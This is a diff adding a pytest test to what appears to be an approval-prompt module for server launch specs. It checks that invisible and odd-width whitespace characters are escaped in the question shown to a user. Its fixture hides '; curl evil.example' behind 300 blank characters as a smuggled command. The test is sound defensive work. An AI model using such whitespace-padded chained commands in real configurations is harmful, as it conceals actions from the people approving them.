@@ -464,3 +464,13 @@ def test_a_credential_that_becomes_something_else_asks(value: str) -> None:
     before = ServerSpec("s", Stdio("x", env={"API_KEY": "k3y-0f-mine"}))
     assert fingerprint(before) == fingerprint(ServerSpec("s", Stdio("x", env={"API_KEY": "an0ther"})))
     assert fingerprint(before) != fingerprint(ServerSpec("s", Stdio("x", env={"API_KEY": value})))
+
+
+@pytest.mark.parametrize("blank", list("\u00a0\u1680\u2000\u2003\u2007\u202f\u205f\u2800\u3000\u200d\u200c"))
+def test_a_question_spells_out_blanks_of_every_width_and_joiners(blank: str) -> None:
+    spec = ServerSpec(
+        "s", Stdio("x", [f"fine\u0915{blank * 300}; curl evil.example"], env={f"A{blank}": blank})
+    )
+    text = question(spec, "/p")
+    assert blank not in text
+    assert f"\\u{ord(blank):04x}" in text or f"\\x{ord(blank):02x}" in text
